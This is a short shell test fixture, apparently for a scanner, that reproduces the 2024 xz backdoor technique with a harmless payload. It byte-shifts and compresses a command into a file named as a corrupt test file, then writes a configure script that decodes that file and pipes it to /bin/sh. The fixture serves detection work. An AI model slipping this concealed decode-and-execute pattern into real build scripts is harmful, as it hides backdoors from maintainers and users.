# incident: xz 5.6 (2024): configure takes a script out of a damaged test file
# finding: decoded-piped-to-interpreter
# needs: xz
mkdir -p tests/files
echo 'echo injected > .libs_marker' | xz -c | tr '\000-\176' '\001-\177' > tests/files/bad-3-corrupt_lzma2.xz
cat > configure <<'SH'
gl_am_configmake=tests/files/bad-3-corrupt_lzma2.xz
sed "r\n" $gl_am_configmake 2>/dev/null | tr '\001-\177' '\000-\176' | xz -d 2>/dev/null | /bin/sh
echo configured
SH
sh configure
